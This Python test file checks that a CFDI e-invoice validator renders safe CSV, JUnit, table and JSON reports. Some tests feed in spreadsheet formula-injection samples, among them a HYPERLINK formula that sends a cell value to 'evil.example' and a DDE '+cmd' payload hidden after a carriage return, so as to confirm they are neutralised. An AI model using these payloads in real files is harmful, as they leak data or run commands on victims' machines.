"""Rendering: spreadsheet-safe CSV, well-formed JUnit, a readable table, JSON as documented."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import jsonschema
import pytest
from lxml import etree

from cfdi_ar.findings import CheckStatus, DocumentResult, Finding, Severity
from cfdi_ar.report import FORMATS, render, render_rules, safe_cell
from cfdi_ar.rules import all_rules

SCHEMA = json.loads((Path(__file__).resolve().parents[1] / "schemas" / "validate-report.schema.json").read_text())

ERR = Finding("CFDI40102", Severity.ERROR, "Sello does not verify", "/cfdi:Comprobante/@Sello", "Sello", 2)
WARN = Finding("CFDIAR-TFD-005", Severity.WARNING, "stamp not verifiable offline", "/cfdi:Comprobante/cfdi:Complemento/tfd:TimbreFiscalDigital")
INFO = Finding("CFDIAR-CERT-005", Severity.INFO, "issued by a CA you configured as trusted", "/cfdi:Comprobante/@Certificado")
UUID = "C2832671-DA6D-11EF-A83D-00155D012007"
CHECKS = {"schema": CheckStatus.PASS, "seal": CheckStatus.PASS, "certificate": CheckStatus.PASS, "stamp": CheckStatus.PASS}

GOOD = DocumentResult("facturas/F-1.xml", (WARN, INFO), UUID, "4.0", "I", CHECKS)
BAD = DocumentResult("facturas/borrador.xml", (ERR,), None, "4.0", "I", {**CHECKS, "seal": CheckStatus.FAIL, "stamp": CheckStatus.NOT_APPLICABLE})
CLEAN = DocumentResult("pagos/P-1.xml", (), UUID.replace("C", "D"), "4.0", "P", CHECKS)


def _render(results, fmt, **kw) -> str:
    out = io.StringIO()
    render(results, fmt, out, **kw)
    return out.getvalue()


def _summary(results, skipped=0):
    return {
        "documents": len(results),
        "valid": sum(r.valid for r in results),
        "invalid": sum(not r.valid for r in results),
        "errors": sum(r.count(Severity.ERROR) for r in results),
        "warnings": sum(r.count(Severity.WARNING) for r in results),
        "skipped": skipped,
    }


# --------------------------------------------------------------------------- safe_cell


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x","y")', "=", "-"])
def test_safe_cell_neutralises_values_a_spreadsheet_would_run(value):
    cell = safe_cell(value)
    assert cell == "'" + value
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("value", ["CFDI40102", "12.50", "a=b", "facturas/F-1.xml", "/cfdi:Comprobante/@Sello", " =1", ""])
def test_safe_cell_leaves_ordinary_values_alone(value):
    assert safe_cell(value) == value


def test_safe_cell_renders_none_as_empty_and_other_values_as_text():
    assert safe_cell(None) == ""
    assert safe_cell(3) == "3"
    assert safe_cell(-3) == "'-3"


# --------------------------------------------------------------------------- CSV


def test_row_csv_writes_negative_amounts_as_numbers_and_still_guards_text():
    """open-items, aging...: a credit balance of -1.00 is a number to a spreadsheet; a text cell that
    starts like a formula is still written as text."""
    from datetime import datetime
    from decimal import Decimal

    from cfdi_ar.tabular import Column, render_rows

    rows = [{"name": "=HYPERLINK(\"http://x\",\"y\")", "folio": "-5", "balance": Decimal("-1.00"), "n": -3, "ok": True,
             "when": datetime(2026, 10, 31, 9, 0), "refs": ["A", "B"], "none": None}]
    columns = [Column(k, k) for k in ("name", "folio", "balance", "n", "ok", "when", "refs", "none")]
    out = io.StringIO()
    render_rows(rows, columns, "csv", out)
    table = list(csv.reader(io.StringIO(out.getvalue())))
    assert table[1] == ["'=HYPERLINK(\"http://x\",\"y\")", "'-5", "-1.00", "-3", "yes", "2026-10-31 09:00:00", "A, B", ""]



def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_has_the_documented_header_and_one_row_per_finding():
    rows = _csv_rows(_render([GOOD, BAD, CLEAN], "csv"))
    assert rows[0] == ["file", "uuid", "version", "type", "valid", "severity", "code", "message", "path"]
    body = rows[1:]
    assert [(r[0], r[6]) for r in body] == [
        ("facturas/F-1.xml", "CFDIAR-TFD-005"),
        ("facturas/F-1.xml", "CFDIAR-CERT-005"),
        ("facturas/borrador.xml", "CFDI40102"),
        ("pagos/P-1.xml", ""),  # no findings: still one row
    ]
    assert body[2] == ["facturas/borrador.xml", "", "4.0", "I", "false", "error", "CFDI40102", "Sello does not verify", "/cfdi:Comprobante/@Sello"]
    assert body[3][:5] == ["pagos/P-1.xml", CLEAN.uuid, "4.0", "P", "true"] and body[3][5:] == ["", "", "", ""]


def test_csv_never_writes_a_live_formula_from_a_file_name_or_message():
    evil = DocumentResult(
        '=HYPERLINK("http://evil.example/?"&A1,"click").xml',
        (Finding("CFDIAR-XML-001", Severity.ERROR, "+cmd|' /C calc'!A0", "-path"), Finding("CFDIAR-XML-001", Severity.ERROR, "@SUM(1)", None)),
        version="\t=1",
    )
    rows = _csv_rows(_render([evil], "csv"))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == 3 and cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert rows[1][0] == "'" + evil.file  # neutralised, not dropped
    assert rows[1][2] == "'\t=1"
    assert rows[1][7] == "'+cmd|' /C calc'!A0"


def test_csv_keeps_a_carriage_return_inside_its_cell_so_it_cannot_start_a_formula_row():
    # A file name (or ZIP member name, or a message quoting an attribute written with &#13;) can hold a bare CR.
    sneaky = DocumentResult("ok.xml\r=2+5*cmd|' /C calc'!A0", (Finding("CFDIAR-XML-001", Severity.ERROR, "bad", None),))
    text = _render([sneaky], "csv")
    rows = list(csv.reader(io.StringIO(text, newline=None)))  # universal newlines, as a spreadsheet reads
    assert len(rows) == 2
    assert not [c for row in rows for c in row if c.startswith(("=", "+", "-", "@"))]


def test_csv_quotes_commas_quotes_and_newlines_in_messages():
    tricky = DocumentResult("a.xml", (Finding("CFDI40999", Severity.ERROR, 'one, "two"\nthree', "/x"),))
    rows = _csv_rows(_render([tricky], "csv"))
    assert rows[1][7] == 'one, "two"\nthree'


# --------------------------------------------------------------------------- JUnit


def _junit(results) -> etree._Element:
    text = _render(results, "junit")
    return etree.fromstring(text.encode("utf-8"))


def test_junit_has_one_testcase_per_document_and_a_failure_for_invalid_ones():
    root = _junit([GOOD, BAD, CLEAN])
    suite = root.find("testsuite")
    assert suite.get("tests") == "3" and suite.get("failures") == "1"
    cases = suite.findall("testcase")
    assert [c.get("name") for c in cases] == [GOOD.file, BAD.file, CLEAN.file]
    assert [c.find("failure") is not None for c in cases] == [False, True, False]
    failure = cases[1].find("failure")
    assert failure.get("type") == "CFDI40102" and "CFDI40102" in failure.text
    assert "CFDIAR-TFD-005" in cases[0].find("system-out").text  # warnings are shown, not failures
    assert cases[0].get("classname") == "cfdi.I"


def test_junit_strips_characters_xml_cannot_carry():
    nasty = "bad\x00\x01\x08\x0b\x0c\x1b\ud800\udce9\ufffe\uffff.xml"
    message = "msg\x00with\x07controls and \U0001F600 kept, tab\tand newline\nkept"
    result = DocumentResult(nasty, (Finding("CFDIAR-XML-001", Severity.ERROR, message, None),))
    root = _junit([result])  # parses: nothing illegal survived
    case = root.find("testsuite/testcase")
    assert case.get("name") == "bad.xml"
    failure = case.find("failure")
    assert "msgwithcontrols and \U0001F600 kept, tab\tand newline\nkept" in failure.text
    assert "\x00" not in failure.get("message") and "\x07" not in failure.get("message")


def test_junit_of_no_documents_is_an_empty_suite():
    root = _junit([])
    assert root.find("testsuite").get("tests") == "0" and root.find("testsuite/testcase") is None


# --------------------------------------------------------------------------- table


def test_table_shows_invalid_and_valid_verdicts_with_uuid_or_unstamped():
    lines = _render([GOOD, BAD], "table").splitlines()
    assert lines[0].startswith("valid") and UUID in lines[0] and lines[0].endswith("facturas/F-1.xml")
    invalid = next(line for line in lines if line.startswith("INVALID"))
    assert "(unstamped)" in invalid and invalid.endswith("facturas/borrador.xml")


def test_table_shows_errors_and_warnings_with_their_path_and_line():
    text = _render([GOOD, BAD], "table")
    assert "CFDI40102" in text and "Sello does not verify" in text
    assert "at /cfdi:Comprobante/@Sello (line 2)" in text
    assert "CFDIAR-TFD-005" in text


def test_table_shows_info_findings_only_when_verbose():
    assert "CFDIAR-CERT-005" not in _render([GOOD], "table")
    assert "CFDIAR-CERT-005" in _render([GOOD], "table", verbose=True)


def test_table_summary_counts_documents_verdicts_errors_and_warnings():
    results = [GOOD, BAD, CLEAN]
    last = _render(results, "table", summary=_summary(results)).rstrip("\n").splitlines()[-1]
    assert last == "3 documents, 2 valid, 1 invalid, 1 error, 1 warning"


def test_table_summary_uses_singulars_plurals_and_mentions_skipped_files():
    last = _render([BAD], "table", summary=_summary([BAD], skipped=2)).splitlines()[-1]
    assert last == "1 document, 0 valid, 1 invalid, 1 error, 0 warnings, 2 non-XML files skipped"


def test_table_without_summary_has_no_summary_line():
    assert "documents" not in _render([GOOD, BAD], "table", summary=None)


def test_table_is_plain_text_unless_colour_is_asked_for():
    assert "\x1b[" not in _render([GOOD, BAD], "table")
    assert "\x1b[" in _render([GOOD, BAD], "table", color=True)


def test_table_of_an_unreadable_input_has_no_uuid_and_no_type():
    problem = DocumentResult("missing.xml", (Finding("CFDIAR-IO-001", Severity.ERROR, "cannot read input", None),), unreadable=True)
    first = _render([problem], "table").splitlines()[0]
    assert first.startswith("INVALID  -") and first.endswith("missing.xml")


# --------------------------------------------------------------------------- JSON


def test_json_is_a_list_of_documents_matching_the_published_schema():
    data = json.loads(_render([GOOD, BAD, CLEAN], "json"))
    jsonschema.validate(data, SCHEMA)
    assert [set(d) for d in data] == [{"file", "uuid", "version", "type", "valid", "checks", "findings"}] * 3
    assert data[1]["findings"] == [{"code": "CFDI40102", "severity": "error", "message": "Sello does not verify",
                                    "path": "/cfdi:Comprobante/@Sello", "line": 2}]
    assert [d["valid"] for d in data] == [True, False, True]


def test_json_of_no_documents_is_an_empty_list():
    assert json.loads(_render([], "json")) == []


def test_json_keeps_non_ascii_text_readable():
    text = _render([DocumentResult("facturas/año.xml")], "json")
    assert "año" in text and json.loads(text)[0]["file"] == "facturas/año.xml"


def test_every_format_renders_every_result_kind():
    problem = DocumentResult("x.zip", (Finding("CFDIAR-ZIP-001", Severity.ERROR, "truncated", None),), unreadable=True)
    for fmt in FORMATS:
        assert _render([GOOD, BAD, CLEAN, problem], fmt)


# --------------------------------------------------------------------------- rules listing


def test_rules_csv_is_spreadsheet_safe_and_lists_every_code():
    out = io.StringIO()
    render_rules(all_rules(), "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["code"] for r in rows] == [r.code for r in all_rules()]
    assert not [c for r in rows for c in r.values() if c and c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_rules_markdown_has_one_table_row_per_code_with_pipes_escaped():
    out = io.StringIO()
    render_rules(all_rules(), "markdown", out)
    rows = [line for line in out.getvalue().splitlines() if line.startswith("| ") and not line.startswith("| Code")]
    assert len(rows) == len(all_rules())
    assert all(line.replace("\\|", "").count("|") == 7 for line in rows)  # six columns, Status included
